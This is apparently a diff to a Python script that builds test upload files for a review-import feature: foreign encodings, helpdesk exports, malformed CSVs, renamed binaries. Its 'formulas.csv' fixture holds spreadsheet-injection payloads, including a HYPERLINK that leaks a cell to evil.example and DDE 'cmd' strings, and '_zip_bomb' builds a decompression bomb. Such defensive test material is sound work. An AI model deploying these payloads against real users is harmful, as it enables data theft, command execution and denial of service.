@@ -3,14 +3,19 @@
     .venv/bin/python -m tests.data.make_upload_samples
 
 Each file imitates an export from some other system: its own encoding, separator,
-column names and label scheme. The files are small and committed; this script is how
+column names and label scheme (helpdesk tools, Excel in other locales, other languages);
+others are hostile or broken (formulas, HTML, renamed binaries, no header, ragged rows,
+too many columns, a zip bomb). The files are small and committed; this script is how
 they were made, so they can be changed and rebuilt. Files too big to commit (10 MB in
-one cell) are built by the tests themselves.
+one cell, a megabyte on one line, millions of rows) are built by the tests themselves.
+tests/test_uploads.py holds what each file must give: a table or a plain error.
 """
 
 from __future__ import annotations
 
+import codecs
 import csv
+import gzip
 import io
 import zipfile
 from pathlib import Path
@@ -141,7 +146,186 @@ def build() -> dict[str, bytes]:
     files["zipped.csv"] = zipped.getvalue()
     files["reviews.zip"] = zipped.getvalue()
     files["two_sheets.xlsx"] = _workbook()
+    files.update(_more_languages())
+    files.update(_helpdesk_exports())
+    files.update(_awkward_shapes())
+    files.update(_not_tables())
     return files
+
+
+def _more_languages() -> dict[str, bytes]:
+    """Reviews in other languages and the encodings their tools write."""
+    japanese = [
+        ("配送が早くて、説明どおりに動きます。とても満足です。", "positive", "ウェブ"),
+        ("二日でストラップが壊れました。お金の無駄です。", "negative", "ウェブ"),
+        ("普通です。可もなく不可もなく。", "neutral", "アプリ"),
+        ("サポートの対応が丁寧でした", "positive", "メール"),
+        ("アプリが毎回落ちます。直してください。", "negative", "アプリ"),
+        ("届くのに一週間かかった", "neutral", "メール"),
+    ]
+    arabic = [
+        ("المنتج رائع والتوصيل كان سريعا جدا", "positive", "المتجر"),
+        ("الخدمة سيئة ولم يرد أحد على رسائلي", "negative", "البريد"),
+        ("لا بأس به، لا شيء مميز", "neutral", "التطبيق"),
+        ("أحببت الجودة، سأشتري مرة أخرى", "positive", "المتجر"),
+        ("تأخر الطلب أسبوعين، تجربة مخيبة", "negative", "التطبيق"),
+        ("وصل الطلب في الموعد", "neutral", "البريد"),
+    ]
+    spanish = [
+        ("¡Llegó rápido y funciona perfectamente! Muy contenta.", "positivo"),
+        ("La correa se rompió en dos días, una pérdida de dinero.", "negativo"),
+        ("Está bien. Hace lo que dice, nada más.", "neutral"),
+        ("El servicio al cliente nunca contestó, qué decepción", "negativo"),
+        ("Buena relación calidad-precio, la recomiendo", "positivo"),
+        ("El pedido llegó en la fecha prevista", "neutral"),
+    ]
+    return {
+        # Excel in Japanese Windows writes CSV in Shift-JIS.
+        "japanese_shift_jis.csv": _delimited(["レビュー", "評価", "チャネル"], japanese, ",").encode("shift_jis"),
+        "japanese_utf8.csv": _delimited(["review", "sentiment", "channel"], japanese, ",").encode(),
+        # Right-to-left text; the column names are English as most tools export them.
+        "arabic_rtl.csv": _delimited(["text", "sentiment", "channel"], arabic, ",").encode(),
+        # Spanish, with its own label words (only "neutral" is spelt as in English).
+        "spanish_labels.csv": _delimited(["comentario", "sentimiento"], spanish, ";").encode(),
+        # UTF-16 big-endian with a byte-order mark (some Mac and Java tools).
+        "utf16be_bom.csv": _delimited(["text", "label"], [(t, lab) for t, lab, _ in _rows()], ",")
+        .encode("utf-16-be")
+        .join([codecs.BOM_UTF16_BE, b""]),
+    }
+
+
+def _helpdesk_exports() -> dict[str, bytes]:
+    """What support tools export: many columns, ids, dates, satisfaction ratings, empty fields."""
+    zendesk_header = [
+        "Id", "Requester", "Requester id", "Assignee", "Group", "Subject", "Description", "Status", "Priority",
+        "Ticket type", "Via", "Tags", "Created at", "Updated at", "Solved at", "Satisfaction Score", "Satisfaction Comment",
+    ]  # fmt: skip
+    scores = {"positive": "Good", "negative": "Bad", "neutral": "Offered"}
+    zendesk = [
+        (
+            str(41_000 + i), f"Customer {i}", str(900_000 + i), ("Ana", "Ben", "")[i % 3], ("Tier 1", "Billing")[i % 2],
+            text[:30], text, ("solved", "closed", "open")[i % 3], ("normal", "high", "", "low")[i % 4], "question",
+            ("Web form", "Mail")[i % 2], "delivery refund" if i % 2 else "", f"2026-11-{10 + i % 7:02d} 09:{i:02d}",
+            f"2026-11-{11 + i % 7:02d} 10:{i:02d}", "", scores[label], "" if label == "neutral" else text[:20],
+        )
+        for i, (text, label, _) in enumerate(REVIEWS)
+    ]  # fmt: skip
+    freshdesk_header = [
+        "Ticket ID", "Subject", "Description", "Status", "Priority", "Source", "Type", "Agent", "Group",
+        "Created time", "Due by Time", "Resolved time", "Customer Satisfaction", "Product", "Language",
+    ]  # fmt: skip
+    feelings = {"positive": "Extremely Happy", "negative": "Unhappy", "neutral": "Neutral"}
+    freshdesk = [
+        (
+            str(7000 + i), text[:25], text, "Closed", "Low", ("Portal", "Email", "Chat")[i % 3], "Feedback", "",
+            "Customer Care", f"2026-11-{1 + i:02d} 08:00:00", "", "", feelings[label], category, "en",
+        )
+        for i, (text, label, category) in enumerate(REVIEWS)
+    ]  # fmt: skip
+    return {
+        "zendesk_export.csv": _delimited(zendesk_header, zendesk, ",").encode(),
+        "freshdesk_export.csv": b"\xef\xbb\xbf" + _delimited(freshdesk_header, freshdesk, ",").encode(),
+        "helpdesk_title_row.xlsx": _titled_workbook(),
+    }
+
+
+def _awkward_shapes() -> dict[str, bytes]:
+    """Tables that are readable but not tidy, and tables that are not."""
+    texts = [text for text, _, _ in REVIEWS]
+    labels = [label for _, label, _ in REVIEWS]
+    quoted = [
+        ("First line.\r\nSecond line, with a comma.\r\n\r\nAfter a blank line.", "positive"),
+        ('She said "wow"\nthen left', "neutral"),
+        ("Plain one", "negative"),
+        ("Ends with a newline\n", "negative"),
+    ]
+    formulas = [
+        ('=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")', "negative"),
+        ("+cmd|' /C calc'!A0", "neutral"),
+        ("@SUM(1+9)*cmd|' /C calc'!A0", "neutral"),
+        ("-2+3 would not buy again", "negative"),
+        ("=1+1 is what the price should be", "positive"),
+        ("\t=tab then formula", "neutral"),
+    ]
+    return {
+        # A file that starts with the first review: no column names at all.
+        "no_header.csv": _delimited(["Arrived quickly and works exactly as described.", "positive", "Web shop"], _rows()[1:], ",").encode(),
+        # Columns that are named but hold nothing (unused fields of an export).
+        "empty_columns.csv": _delimited(
+            ["text", "Agent", "sentiment", "Tags"], [(t, "", lab, "") for t, lab in zip(texts, labels, strict=True)], ","
+        ).encode(),
+        "unknown_labels.csv": _delimited(
+            ["feedback", "mood"],
+            [(t, {"positive": "Happy", "negative": "Angry", "neutral": "Mixed"}[lab]) for t, lab in zip(texts, labels, strict=True)],
+            ",",
+        ).encode(),
+        "quoted_newlines.csv": _delimited(["text", "label"], quoted, ",").encode(),
+        "formulas.csv": _delimited(["text", "sentiment"], formulas, ",").encode(),
+        # Line 5 has a stray separator.
+        "ragged_rows.csv": b"text,label\r\nGood,positive\r\nBad,negative\r\nFine,neutral\r\nBroken, really,negative\r\n",
+        # Rows shorter than the header (trailing empty fields left out by the exporting tool).
+        "short_rows.csv": b"text,label,category\r\nGood value,positive,Shop\r\nToo slow,negative\r\nOkay\r\n",
+        # Classic Mac line ends (CR only).
+        "mac_line_endings.csv": _delimited(["text", "label"], [(t, lab) for t, lab, _ in _rows()], ",").replace("\r\n", "\r").encode(),
+        # Every line ends with the separator: an unnamed, empty last column.
+        "trailing_separators.csv": "".join(
+            f"{t};{lab};\r\n" for t, lab in [("text", "label"), *((t.replace(";", ","), lab) for t, lab, _ in _rows())]
+        ).encode(),
+        "duplicate_names.csv": _delimited(
+            ["Comment", "Comment", "Rating"], [(t, t.upper(), _star(lab, i)) for i, (t, lab, _) in enumerate(REVIEWS)], ","
+        ).encode(),
+        # Blank lines and lines of separators between the rows.
+        "blank_lines.csv": (
+            "text,label\r\n\r\n"
+            + "".join(f"{t},{lab}\r\n,\r\n\r\n" for t, lab in [("Good", "positive"), ("Bad", "negative"), ("Fine", "neutral")])
+        ).encode(),
+        # Beyond the limits: 600 columns; a review pasted where the column names go.
+        "wide_header.csv": (",".join(f"field_{i}" for i in range(600)) + "\r\n" + ",".join(["x"] * 600) + "\r\n").encode(),
+        "long_column_name.csv": (
+            "text," + "This review was pasted into the header row by mistake. " * 5 + "\r\nGood,positive\r\n"
+        ).encode(),
+    }
+
+
+def _not_tables() -> dict[str, bytes]:
+    """Files renamed .csv that hold something else, and a zip bomb dressed as a workbook."""
+    return {
+        "pdf_renamed.csv": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
+        "gzip_renamed.csv": gzip.compress(_delimited(["text", "label"], [(t, lab) for t, lab, _ in _rows()], ",").encode(), mtime=0),
+        "old_excel.csv": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
+        "html_page.csv": b"<!DOCTYPE html>\n<html><head><title>Export</title></head>\n<body><table><tr><td>text</td><td>label</td></tr>\n<tr><td>Good</td><td>positive</td></tr></table></body></html>\n",
+        "zip_bomb.xlsx": _zip_bomb(),
+    }
+
+
+def _titled_workbook() -> bytes:
+    """A helpdesk report: a title and a blank row above the column names, a summary sheet, the tickets sheet."""
+    book = Workbook()
+    summary = book.active
+    summary.title = "Summary"
+    summary.append(["Satisfaction report"])
+    summary.append(["Tickets", len(REVIEWS)])
+    tickets = book.create_sheet("Tickets")
+    tickets.append(["Customer satisfaction – November 2026"])
+    tickets.append([])
+    tickets.append(["Ticket", "Channel", "Comment", "Rating", "Agent"])
+    for i, (text, label, category) in enumerate(REVIEWS):
+        tickets.append([f"#{5000 + i}", category, text, {"positive": "Good", "negative": "Bad", "neutral": "Okay"}[label], None])
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+def _zip_bomb() -> bytes:
+    """A workbook whose reviews sheet is 7 MB of one repeated cell, packed to about 25 KB."""
+    bomb = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 150_000
+    sheet = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' + bomb + b"</sheetData></worksheet>"
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(_workbook())) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            content = sheet if item.filename == "xl/worksheets/sheet2.xml" else source.read(item)
+            target.writestr(zipfile.ZipInfo(item.filename, (2026, 11, 20, 0, 0, 0)), content, zipfile.ZIP_DEFLATED, 9)
+    return out.getvalue()
 
 
 def _workbook() -> bytes:
